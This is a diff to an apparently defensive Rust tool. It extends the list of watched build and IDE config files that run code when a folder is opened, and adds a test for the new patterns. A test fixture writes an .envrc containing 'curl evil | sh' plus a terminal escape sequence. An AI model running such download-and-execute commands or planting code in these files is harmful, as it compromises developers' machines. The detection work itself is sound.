@@ -81,6 +81,38 @@ pub(crate) const DEFAULT_WATCH: &[&str] = &[
     ".tool-versions",
     "**/.mise.toml",
     "**/mise.toml",
+    // What an IDE imports on opening the folder, or a build tool runs as code: Gradle and
+    // Maven (and their wrappers, which download and run the build tool they name), CMake and
+    // Meson, Bazel, MSBuild, Ruby's and PHP's, pytest's conftest, Nix shells.
+    "**/build.gradle",
+    "**/build.gradle.kts",
+    "**/settings.gradle",
+    "**/settings.gradle.kts",
+    "**/gradle.properties",
+    "**/gradle/wrapper/gradle-wrapper.properties",
+    "**/gradlew",
+    "**/pom.xml",
+    "**/.mvn/**",
+    "**/CMakeLists.txt",
+    "**/CMakePresets.json",
+    "**/CMakeUserPresets.json",
+    "**/meson.build",
+    "**/WORKSPACE",
+    "**/WORKSPACE.bazel",
+    "**/MODULE.bazel",
+    "**/.bazelrc",
+    "**/Directory.Build.props",
+    "**/Directory.Build.targets",
+    "**/*.csproj",
+    "**/NuGet.config",
+    "**/global.json",
+    "**/Gemfile",
+    "**/*.gemspec",
+    "**/Rakefile",
+    "**/composer.json",
+    "**/conftest.py",
+    "**/flake.nix",
+    "**/shell.nix",
     ".bashrc",
     ".bash_profile",
     ".profile",
@@ -593,6 +625,16 @@ mod tests {
             "ignored folders are walked"
         );
         assert!(!before.files.contains_key("node_modules/x/package.json"));
+        // What an IDE runs when it opens the folder.
+        for file in [
+            "app/build.gradle.kts",
+            "gradle/wrapper/gradle-wrapper.properties",
+            "native/CMakeLists.txt",
+            "tests/conftest.py",
+            "Gemfile",
+        ] {
+            assert!(globs(&patterns).is_match(file), "{file}");
+        }
 
         write(root, ".envrc", "export A=1\ncurl evil | sh\x1b]0;t\x07\n");
         std::fs::remove_file(root.join("pkg/a/package.json")).unwrap();
